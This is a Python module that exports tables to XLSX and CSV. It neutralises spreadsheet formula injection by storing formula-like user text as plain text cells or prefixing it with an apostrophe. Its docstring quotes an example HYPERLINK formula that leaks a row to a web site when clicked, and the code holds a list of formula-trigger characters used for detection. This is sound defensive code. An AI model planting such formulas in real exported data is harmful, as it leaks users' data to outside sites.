"""Tables as spreadsheets people open in Excel or WPS: XLSX with a bold, frozen header row and set column
widths, and CSV in UTF-8 with a BOM (so Excel reads the Chinese). Data in, bytes out.

Text comes from users (a post's name, a remark, a clause), and a text starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is a formula to a spreadsheet (``=HYPERLINK("http://…"&C2,"…")`` leaks
the row to a web site when clicked). Every export goes through here, so here it is neutralised: in XLSX
such text is written as a text cell, never a formula; in CSV it gets a leading ``'`` (which the standards
import strips again). Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

Cell = str | int | float | object
#: what makes a spreadsheet read a text cell as a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


#: characters a worksheet's name may not hold (a round called 11/2 once broke its download for everyone)
_NOT_IN_SHEET_NAMES = str.maketrans({ch: "－" if ch in "/\\" else " " for ch in "[]:*?/\\"})


def sheet_title(title: str) -> str:
    """A worksheet name Excel accepts: at most 31 characters, none of []:*?/\\, not blank, not quoted."""
    name = title.translate(_NOT_IN_SHEET_NAMES).strip().strip("'")[:31].strip()
    return name or "Sheet1"


def formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def to_xlsx(
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    widths: Sequence[int],
    author: str = "",
) -> bytes:
    """One sheet with a bold, frozen header row; ``author`` (the mine's name) goes into its properties."""
    book = Workbook()
    book.properties.title = title
    book.properties.creator = author or None
    sheet = book.active
    assert sheet is not None
    sheet.title = sheet_title(title)
    sheet.append(list(headers))
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        sheet.append(list(row))
        for cell in sheet[sheet.max_row]:
            if formula_like(cell.value):
                cell.data_type = "s"  # text, as typed: never evaluated
    sheet.freeze_panes = "A2"
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def to_csv(headers: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows([_csv_cell(v) for v in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")


def _csv_cell(value: Cell) -> Cell:
    if value is None:
        return ""
    return f"'{value}" if formula_like(value) else value
